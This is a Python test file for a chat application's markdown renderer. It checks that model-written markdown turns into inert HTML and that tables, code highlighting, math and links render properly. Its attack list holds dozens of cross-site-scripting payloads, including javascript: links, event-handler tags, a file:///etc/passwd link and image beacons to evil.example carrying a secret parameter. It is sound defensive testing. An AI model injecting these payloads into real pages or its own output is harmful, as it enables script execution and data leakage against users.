"""Markdown of models becomes HTML that can do nothing."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat import rendering

SAFE_TAGS = set(
    "a blockquote br code del div em h3 h4 h5 h6 header hr li ol p pre s span strong table tbody td th thead tr ul".split()
)
SAFE_ATTRIBUTES = {"class", "href", "rel", "start", "target", "title"}


class Inspector(HTMLParser):
    """Fails on anything that runs, loads or styles."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in SAFE_TAGS, tag
        for name, value in attrs:
            assert name in SAFE_ATTRIBUTES, (tag, name)
            if name == "href":
                assert re.match(r"(?i)(https?:|mailto:)", value or ""), value
            if name == "class":
                assert re.fullmatch(r"(codeblock|x|math|code|grid|r|m|hljs-[a-z_]+)", value or ""), value


def inspect(html: str) -> None:
    Inspector(convert_charrefs=True).feed(html)


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "![x](https://evil.example/?secret=1)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x][ref]\n\n[ref]: https://evil.example/pixel.png",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "<https://evil.example/<script>>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python\nprint('</code><script>alert(1)</script>')\n```",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x> |",
    "$</span><script>alert(1)</script>$",
    "$$\n</div><script>alert(1)</script>\n$$",
    "\\[<img src=x onerror=alert(1)>\\]",
    "# <b onclick=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "x\x00<script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_loads_or_styles(attack: str) -> None:
    html = rendering.markdown(attack)
    inspect(html)
    assert "<script" not in html
    assert "<img" not in html


@given(st.lists(st.one_of(st.sampled_from(ATTACKS), st.text(max_size=20)), max_size=6).map("\n".join))
def test_nothing_does_in_any_mixture(text: str) -> None:
    inspect(rendering.markdown(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**yes** and *so* ~~no~~", "<p><strong>yes</strong> and <em>so</em> <s>no</s></p>"),
        ("# One\n\n### Three", "<h3>One</h3>\n<h5>Three</h5>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("a &amp; b < c", "<p>a &amp; b &lt; c</p>"),
        ("main.py and README.md", "<p>main.py and README.md</p>"),
        ("costs $5 and $6", "<p>costs $5 and $6</p>"),
        ("from $ 5 to $ 6", "<p>from $ 5 to $ 6</p>"),
        ("$x^2$ and \\(y\\)", '<p><span class="math">x^2</span> and <span class="math">y</span></p>'),
        ("$$\na_1 + b_2\n$$", '<div class="math">a_1 + b_2</div>'),
        ("\\[ x \\]", '<div class="math">x</div>'),
        ("5 % of \\$10", "<p>5 % of $10</p>"),
    ],
)
def test_what_models_write_reads_well(text: str, html: str) -> None:
    assert rendering.markdown(text).strip() == html


def test_a_table_keeps_its_alignment_without_a_style() -> None:
    html = rendering.markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<div class="x"><table class="grid">' in html
    assert '<th class="m">a</th>' in html
    assert '<td class="r">2</td>' in html
    assert "style" not in html


def test_code_is_coloured_by_the_classes_of_the_page() -> None:
    html = rendering.markdown("```python\n# why\ndef f(x): return x + 1, 'a'\n```")
    assert "<header>python</header>" in html
    for part in (
        '<span class="hljs-comment"># why</span>',
        '<span class="hljs-keyword">def</span>',
        '<span class="hljs-number">1</span>',
        "hljs-string",
    ):
        assert part in html


@pytest.mark.parametrize("language", ["", "nosuchlanguage", "python " + "x" * 50])
def test_any_language_is_shown(language: str) -> None:
    assert "1 &lt; 2" in re.sub(r"</?span[^>]*>", "", rendering.markdown(f"```{language}\n1 < 2\n```"))


def test_a_very_long_block_of_code_stays_plain() -> None:
    assert "hljs-" not in rendering.highlight("x = 1\n" * 10_000, "python")


def test_links_lead_outside_and_tell_nothing() -> None:
    html = rendering.markdown("see https://a.example/x and [b](https://b.example)")
    assert html.count('target="_blank"') == 2
    assert html.count('rel="noopener noreferrer nofollow"') == 2


def test_a_picture_becomes_a_link_to_it() -> None:
    html = rendering.markdown("![a map](https://maps.example/1.png)")
    assert '<a href="https://maps.example/1.png"' in html
    assert ">a map</a>" in html


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("- 17 % of 2,340 = **397.8**.\n- It is a *Saturday*.", "17 % of 2,340 = 397.8. It is a Saturday."),
        ("# Ends\n\nUse `settle()`, see [the page](https://a.example).", "Ends Use settle(), see the page."),
        ("one\ntwo  \nthree ![a wheel](https://a.example/x.png)", "one two three a wheel"),
        ("```python\nprint(1)\n```\nand $e = n$", "print(1)\n and e = n"),
        ("| Run | Found |\n|--|--|\n| 1 | 340 |", "Run Found 1 340"),
        ("a * b < c", "a * b < c"),
        ("", ""),
    ],
)
def test_plain_words_have_no_marks(text: str, words: str) -> None:
    assert rendering.plain(text) == words
